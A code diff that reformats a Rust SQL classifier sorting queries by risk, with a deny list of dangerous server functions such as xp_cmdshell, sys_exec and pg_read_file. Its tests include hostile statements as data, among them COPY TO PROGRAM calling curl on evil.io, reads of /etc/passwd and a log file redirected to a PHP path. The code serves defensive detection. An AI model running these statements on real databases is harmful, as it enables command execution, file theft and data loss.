@@ -126,7 +126,12 @@ pub enum Engine {
 }
 
 /// The readings of a text whose engine is unknown.
-const ANY_ENGINE: &[Engine] = &[Engine::Postgres, Engine::MySql, Engine::Sqlite, Engine::MsSql];
+const ANY_ENGINE: &[Engine] = &[
+    Engine::Postgres,
+    Engine::MySql,
+    Engine::Sqlite,
+    Engine::MsSql,
+];
 
 static POSTGRES: PostgreSqlDialect = PostgreSqlDialect {};
 static MYSQL: MySqlDialect = MySqlDialect {};
@@ -203,9 +208,12 @@ impl Found {
     }
 }
 
+/// The last text analysed on a thread: its engine, text and analysis.
+type Cached = (Option<Engine>, Rc<str>, Rc<Analysis>);
+
 thread_local! {
     static ANALYSES: std::cell::Cell<u64> = const { std::cell::Cell::new(0) };
-    static LAST: RefCell<Option<(Option<Engine>, Rc<str>, Rc<Analysis>)>> = const { RefCell::new(None) };
+    static LAST: RefCell<Option<Cached>> = const { RefCell::new(None) };
 }
 
 /// The analysis of `src` read as `engine` (every engine when `None`),
@@ -216,9 +224,9 @@ pub fn analyze_for(src: &str, engine: Option<Engine>) -> Rc<Analysis> {
         return Rc::new(Analysis::unclassified("too large to classify"));
     }
     let hit = LAST.with(|l| {
-        l.borrow().as_ref().and_then(|(e, text, a)| {
-            (*e == engine && **text == *src).then(|| Rc::clone(a))
-        })
+        l.borrow()
+            .as_ref()
+            .and_then(|(e, text, a)| (*e == engine && **text == *src).then(|| Rc::clone(a)))
     });
     if let Some(a) = hit {
         return a;
@@ -520,7 +528,9 @@ fn unparsed(chunk: &[Token]) -> Stmt {
     if let [Token::Word(p), Token::Word(n), Token::LParen, Token::Word(_) | Token::SingleQuotedString(_), Token::RParen] =
         significant.as_slice()
     {
-        if p.value.eq_ignore_ascii_case("pragma") && describing_pragma(&n.value.to_ascii_lowercase()) {
+        if p.value.eq_ignore_ascii_case("pragma")
+            && describing_pragma(&n.value.to_ascii_lowercase())
+        {
             return Stmt::new(Class::Read, "other");
         }
     }
@@ -661,34 +671,85 @@ fn function_class(name: &ObjectName) -> Option<Class> {
     Some(match last {
         // Run a program or arbitrary SQL the gate cannot see, or write
         // files on the server.
-        "xp_cmdshell" | "sp_oacreate" | "sp_oamethod" | "sp_execute_external_script"
-        | "sp_executesql" | "sys_exec" | "sys_eval" | "dblink_exec" | "dblink"
-        | "dblink_send_query" | "dblink_open" | "dblink_fetch" | "lo_export" | "lo_unlink"
-        | "load_extension" | "writefile" | "edit" | "fts3_tokenizer" | "pg_file_write"
-        | "pg_file_unlink" | "pg_file_rename" | "pg_file_sync" | "query_to_xml"
-        | "query_to_xml_and_xmlschema" | "query_to_xmlschema" | "cursor_to_xml"
-        | "openquery" | "openrowset" | "opendatasource" | "pg_drop_replication_slot"
-        | "pg_promote" | "xp_regwrite" | "xp_regdeletekey" | "xp_regdeletevalue"
+        "xp_cmdshell"
+        | "sp_oacreate"
+        | "sp_oamethod"
+        | "sp_execute_external_script"
+        | "sp_executesql"
+        | "sys_exec"
+        | "sys_eval"
+        | "dblink_exec"
+        | "dblink"
+        | "dblink_send_query"
+        | "dblink_open"
+        | "dblink_fetch"
+        | "lo_export"
+        | "lo_unlink"
+        | "load_extension"
+        | "writefile"
+        | "edit"
+        | "fts3_tokenizer"
+        | "pg_file_write"
+        | "pg_file_unlink"
+        | "pg_file_rename"
+        | "pg_file_sync"
+        | "query_to_xml"
+        | "query_to_xml_and_xmlschema"
+        | "query_to_xmlschema"
+        | "cursor_to_xml"
+        | "openquery"
+        | "openrowset"
+        | "opendatasource"
+        | "pg_drop_replication_slot"
+        | "pg_promote"
+        | "xp_regwrite"
+        | "xp_regdeletekey"
+        | "xp_regdeletevalue"
         | "xp_servicecontrol" => Class::Destructive,
         // Read server files, reach the network, change settings, end
         // other sessions.
-        "pg_read_file" | "pg_read_binary_file" | "pg_ls_dir" | "pg_stat_file"
-        | "pg_ls_logdir" | "pg_ls_waldir" | "pg_ls_tmpdir" | "pg_ls_archive_statusdir"
-        | "lo_import" | "load_file" | "readfile" | "set_config" | "pg_terminate_backend"
-        | "pg_cancel_backend" | "pg_reload_conf" | "pg_rotate_logfile" | "pg_switch_wal"
-        | "pg_create_restore_point" | "pg_backup_start" | "pg_backup_stop"
-        | "pg_start_backup" | "pg_stop_backup" | "pg_logdir_ls" | "xp_regread"
-        | "xp_dirtree" | "xp_fileexist" | "xp_subdirs" | "xp_availablemedia" | "sp_configure"
-        | "sp_addlogin" | "sp_addsrvrolemember" | "sp_password" | "pg_create_logical_replication_slot"
-        | "pg_create_physical_replication_slot" | "pg_replication_origin_create" => {
-            Class::Privilege
-        }
+        "pg_read_file"
+        | "pg_read_binary_file"
+        | "pg_ls_dir"
+        | "pg_stat_file"
+        | "pg_ls_logdir"
+        | "pg_ls_waldir"
+        | "pg_ls_tmpdir"
+        | "pg_ls_archive_statusdir"
+        | "lo_import"
+        | "load_file"
+        | "readfile"
+        | "set_config"
+        | "pg_terminate_backend"
+        | "pg_cancel_backend"
+        | "pg_reload_conf"
+        | "pg_rotate_logfile"
+        | "pg_switch_wal"
+        | "pg_create_restore_point"
+        | "pg_backup_start"
+        | "pg_backup_stop"
+        | "pg_start_backup"
+        | "pg_stop_backup"
+        | "pg_logdir_ls"
+        | "xp_regread"
+        | "xp_dirtree"
+        | "xp_fileexist"
+        | "xp_subdirs"
+        | "xp_availablemedia"
+        | "sp_configure"
+        | "sp_addlogin"
+        | "sp_addsrvrolemember"
+        | "sp_password"
+        | "pg_create_logical_replication_slot"
+        | "pg_create_physical_replication_slot"
+        | "pg_replication_origin_create" => Class::Privilege,
         // Write without a write statement.
         "nextval" | "setval" | "lo_create" | "lo_creat" | "lo_put" | "lo_write"
         | "lo_from_bytea" | "lo_truncate" => Class::Write,
         // Hold the database for as long as the caller likes.
-        "pg_sleep" | "pg_sleep_for" | "pg_sleep_until" | "sleep" | "benchmark"
-        | "dbms_lock" => Class::Other,
+        "pg_sleep" | "pg_sleep_for" | "pg_sleep_until" | "sleep" | "benchmark" | "dbms_lock" => {
+            Class::Other
+        }
         _ => return None,
     })
 }
@@ -1175,7 +1236,9 @@ fn tautology(e: &Expr, d: usize) -> bool {
             negated: false,
             pattern,
             ..
-        } => matches!(fold(pattern, d + 1), Some(K::Str(p)) if !p.is_empty() && p.chars().all(|c| c == '%')),
+        } => {
+            matches!(fold(pattern, d + 1), Some(K::Str(p)) if !p.is_empty() && p.chars().all(|c| c == '%'))
+        }
         Expr::In {
             expr,
             target: InTarget::List(list),
@@ -1220,7 +1283,10 @@ mod tests {
         assert_eq!(class("SELECT \"delete\" FROM t -- DROP TABLE t"), "read");
         assert_eq!(class("SELECT 1 /* ; DROP TABLE t; */"), "read");
         assert_eq!(class("SELECT * FROM t FOR UPDATE"), "read");
-        assert_eq!(class_as("SELECT $$ DROP TABLE t $$", Engine::Postgres), "read");
+        assert_eq!(
+            class_as("SELECT $$ DROP TABLE t $$", Engine::Postgres),
+            "read"
+        );
         let a = analyze("SELECT * FROM users WHERE id = 1");
         assert_eq!(a.kind, "select");
         assert!(a.has_where);
@@ -1322,7 +1388,10 @@ mod tests {
             "destructive"
         );
         assert_eq!(
-            class_as("EXPLAIN (ANALYZE false) DELETE FROM users", Engine::Postgres),
+            class_as(
+                "EXPLAIN (ANALYZE false) DELETE FROM users",
+                Engine::Postgres
+            ),
             "destructive"
         );
         assert_eq!(
@@ -1330,14 +1399,26 @@ mod tests {
             "read"
         );
         assert_eq!(
-            class_as("CREATE OR REPLACE TABLE users AS SELECT 1 AS id", Engine::BigQuery),
+            class_as(
+                "CREATE OR REPLACE TABLE users AS SELECT 1 AS id",
+                Engine::BigQuery
+            ),
             "destructive"
         );
         assert_eq!(class_as("PRAGMA table_info(users)", Engine::Sqlite), "read");
-        assert_eq!(class_as("PRAGMA journal_mode(OFF)", Engine::Sqlite), "other");
-        assert_eq!(class_as("PRAGMA foreign_keys = OFF", Engine::Sqlite), "other");
         assert_eq!(
-            class_as("SET @@GLOBAL.general_log_file = '/var/www/x.php'", Engine::MySql),
+            class_as("PRAGMA journal_mode(OFF)", Engine::Sqlite),
+            "other"
+        );
+        assert_eq!(
+            class_as("PRAGMA foreign_keys = OFF", Engine::Sqlite),
+            "other"
+        );
+        assert_eq!(
+            class_as(
+                "SET @@GLOBAL.general_log_file = '/var/www/x.php'",
+                Engine::MySql
+            ),
             "privilege"
         );
         // A statement the grammar refuses does not hide the next one.
@@ -1392,8 +1473,14 @@ mod tests {
     #[test]
     fn side_effect_functions_are_not_reads() {
         for (s, c) in [
-            ("SELECT dblink_exec('host=x', 'DROP TABLE users')", "destructive"),
-            ("SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS t(a int)", "destructive"),
+            (
+                "SELECT dblink_exec('host=x', 'DROP TABLE users')",
+                "destructive",
+            ),
+            (
+                "SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS t(a int)",
+                "destructive",
+            ),
             ("SELECT lo_export(1234, '/tmp/x')", "destructive"),
             ("SELECT lo_import('/etc/passwd')", "privilege"),
             ("SELECT pg_read_file('/etc/passwd')", "privilege"),
@@ -1401,12 +1488,21 @@ mod tests {
             ("SELECT * FROM pg_ls_dir('/')", "privilege"),
             ("SELECT load_extension('/tmp/x.so')", "destructive"),
             ("SELECT sys_exec('id')", "destructive"),
-            ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "privilege"),
+            (
+                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+                "privilege",
+            ),
             ("SELECT set_config('role', 'admin', false)", "privilege"),
             ("SELECT PG_SLEEP(100)", "other"),
             ("SELECT nextval('s')", "write"),
-            ("SELECT * FROM t WHERE id = (SELECT sys_eval('id'))", "destructive"),
-            ("SELECT query_to_xml('DELETE FROM t', true, true, '')", "destructive"),
+            (
+                "SELECT * FROM t WHERE id = (SELECT sys_eval('id'))",
+                "destructive",
+            ),
+            (
+                "SELECT query_to_xml('DELETE FROM t', true, true, '')",
+                "destructive",
+            ),
             ("COPY t TO PROGRAM 'curl evil.io'", "destructive"),
             ("COPY t FROM '/etc/passwd'", "privilege"),
             ("SELECT * INTO OUTFILE '/tmp/x' FROM users", "privilege"),
@@ -1447,11 +1543,7 @@ mod tests {
         assert!(a.unclassified.is_some());
         // A smoke test of linear cost; the bench has the real numbers.
         assert!(t.elapsed().as_secs() < 5, "{:?}", t.elapsed());
-        let ok = format!(
-            "SELECT {}1{}",
-            "(".repeat(MAX_DEPTH),
-            ")".repeat(MAX_DEPTH)
-        );
+        let ok = format!("SELECT {}1{}", "(".repeat(MAX_DEPTH), ")".repeat(MAX_DEPTH));
         assert_eq!(class(&ok), "read");
         // A chain just under the operator limit is classified; one over is not.
         let chain = |n: usize| format!("DELETE FROM t WHERE {}", vec!["a = 1"; n].join(" OR "));
